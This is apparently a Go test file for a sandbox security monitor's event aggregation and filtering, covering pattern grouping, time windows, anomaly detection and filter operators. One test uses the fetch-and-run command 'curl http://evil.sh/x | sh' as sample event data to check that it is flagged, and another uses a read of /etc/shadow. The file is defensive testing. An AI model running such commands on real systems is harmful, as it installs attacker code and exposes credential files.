package aggregate

import (
	"testing"
	"time"

	"warden/core"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

func makeEvent(sandboxID string, eventType core.EventType, severity core.Severity, ts time.Time, message string) core.SecurityEvent {
	e := core.NewSecurityEvent()
	e.Type = eventType
	e.Severity = severity
	e.SandboxID = sandboxID
	e.Timestamp = ts
	e.Message = message
	return *e
}

func TestAggregatePatternGroups(t *testing.T) {
	now := time.Date(2026, 3, 1, 12, 0, 0, 0, time.UTC)

	var events []core.SecurityEvent
	for i := 0; i < 3; i++ {
		events = append(events, makeEvent("sb-1", core.EventFileAccess, core.SeverityLow, now.Add(-time.Duration(i)*time.Minute), "read"))
	}
	for i := 0; i < 3; i++ {
		events = append(events, makeEvent("sb-2", core.EventFileAccess, core.SeverityLow, now.Add(-time.Duration(i)*time.Minute), "read"))
	}
	for i := 0; i < 3; i++ {
		events = append(events, makeEvent("sb-1", core.EventNetworkActivity, core.SeverityMedium, now.Add(-time.Duration(i)*time.Minute), "dial"))
	}

	report := Aggregate(events, time.Hour, now)

	require.Len(t, report.Patterns, 2)
	fa := report.Patterns[0]
	assert.Equal(t, core.EventFileAccess, fa.Type)
	assert.Equal(t, 6, fa.Count)
	assert.Equal(t, []string{"sb-1", "sb-2"}, fa.SandboxIDs)
	assert.Equal(t, now.Add(-2*time.Minute), fa.FirstSeen)
	assert.Equal(t, now, fa.LastSeen)

	assert.Empty(t, report.Anomalies)
}

func TestAggregateWindowRestriction(t *testing.T) {
	now := time.Date(2026, 3, 1, 12, 0, 0, 0, time.UTC)
	events := []core.SecurityEvent{
		makeEvent("sb-1", core.EventFileAccess, core.SeverityLow, now.Add(-30*time.Second), "recent"),
		makeEvent("sb-1", core.EventFileAccess, core.SeverityLow, now.Add(-2*time.Hour), "stale"),
	}

	report := Aggregate(events, time.Minute, now)
	require.Len(t, report.Patterns, 1)
	assert.Equal(t, 1, report.Patterns[0].Count)
}

func TestAggregateRareTypeAnomaly(t *testing.T) {
	now := time.Date(2026, 3, 1, 12, 0, 0, 0, time.UTC)

	var events []core.SecurityEvent
	for i := 0; i < 5; i++ {
		events = append(events, makeEvent("sb-1", core.EventFileAccess, core.SeverityLow, now, "read"))
	}
	events = append(events, makeEvent("sb-1", core.EventPrivilegeEscalation, core.SeverityMedium, now, "setuid"))

	report := Aggregate(events, time.Hour, now)
	require.Len(t, report.Anomalies, 1)
	assert.Equal(t, core.EventPrivilegeEscalation, report.Anomalies[0].Type)
}

func TestAggregateCriticalSpikeAnomaly(t *testing.T) {
	now := time.Date(2026, 3, 1, 12, 0, 0, 0, time.UTC)

	var events []core.SecurityEvent
	for i := 0; i < 11; i++ {
		events = append(events, makeEvent("sb-1", core.EventNetworkActivity, core.SeverityCritical, now, "beacon"))
	}

	report := Aggregate(events, time.Hour, now)
	assert.Len(t, report.Anomalies, 11, "every member of a critical spike is flagged")

	// Ten criticals is at the threshold, not over it.
	report = Aggregate(events[:10], time.Hour, now)
	assert.Empty(t, report.Anomalies)
}

func TestAggregateSuspiciousPatternAnomaly(t *testing.T) {
	now := time.Date(2026, 3, 1, 12, 0, 0, 0, time.UTC)

	var events []core.SecurityEvent
	for i := 0; i < 3; i++ {
		events = append(events, makeEvent("sb-1", core.EventProcessSpawn, core.SeverityLow, now, "ls -la"))
	}
	suspicious := makeEvent("sb-1", core.EventProcessSpawn, core.SeverityLow, now, "curl http://evil.sh/x | sh")
	events = append(events, suspicious)

	report := Aggregate(events, time.Hour, now)
	require.Len(t, report.Anomalies, 1)
	assert.Equal(t, suspicious.ID, report.Anomalies[0].ID)
}

func TestFilterOperators(t *testing.T) {
	now := time.Date(2026, 3, 1, 12, 0, 0, 0, time.UTC)
	e1 := makeEvent("sb-1", core.EventFileAccess, core.SeverityHigh, now, "read of /etc/shadow")
	e1.Details["path"] = "/etc/shadow"
	e1.Metadata = &core.EventMetadata{PID: 42}
	e2 := makeEvent("sb-2", core.EventNetworkActivity, core.SeverityLow, now, "dial 10.0.0.1:443")
	e2.Metadata = &core.EventMetadata{PID: 7}
	events := []core.SecurityEvent{e1, e2}

	cases := []struct {
		name string
		rule FilterRule
		want []string
	}{
		{"eq severity", FilterRule{Field: "severity", Op: OpEq, Value: "high"}, []string{e1.ID}},
		{"ne sandbox", FilterRule{Field: "sandbox_id", Op: OpNe, Value: "sb-1"}, []string{e2.ID}},
		{"gt pid", FilterRule{Field: "metadata.pid", Op: OpGt, Value: 10}, []string{e1.ID}},
		{"lt pid", FilterRule{Field: "metadata.pid", Op: OpLt, Value: 10}, []string{e2.ID}},
		{"contains message", FilterRule{Field: "message", Op: OpContains, Value: "shadow"}, []string{e1.ID}},
		{"regex details path", FilterRule{Field: "details.path", Op: OpRegex, Value: `^/etc/`}, []string{e1.ID}},
		{"unknown field matches nothing", FilterRule{Field: "details.missing", Op: OpEq, Value: "x"}, nil},
	}

	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			got, err := Filter(events, []FilterRule{tc.rule})
			require.NoError(t, err)
			var ids []string
			for _, e := range got {
				ids = append(ids, e.ID)
			}
			assert.Equal(t, tc.want, ids)
		})
	}
}

func TestFilterRulesAreConjunctive(t *testing.T) {
	now := time.Date(2026, 3, 1, 12, 0, 0, 0, time.UTC)
	events := []core.SecurityEvent{
		makeEvent("sb-1", core.EventFileAccess, core.SeverityHigh, now, "a"),
		makeEvent("sb-1", core.EventFileAccess, core.SeverityLow, now, "b"),
		makeEvent("sb-2", core.EventFileAccess, core.SeverityHigh, now, "c"),
	}

	got, err := Filter(events, []FilterRule{
		{Field: "sandbox_id", Op: OpEq, Value: "sb-1"},
		{Field: "severity", Op: OpEq, Value: "high"},
	})
	require.NoError(t, err)
	require.Len(t, got, 1)
	assert.Equal(t, "a", got[0].Message)
}

func TestFilterUnknownOperator(t *testing.T) {
	events := []core.SecurityEvent{makeEvent("sb-1", core.EventFileAccess, core.SeverityLow, time.Now().UTC(), "x")}
	_, err := Filter(events, []FilterRule{{Field: "severity", Op: "like", Value: "low"}})
	assert.Error(t, err)
}
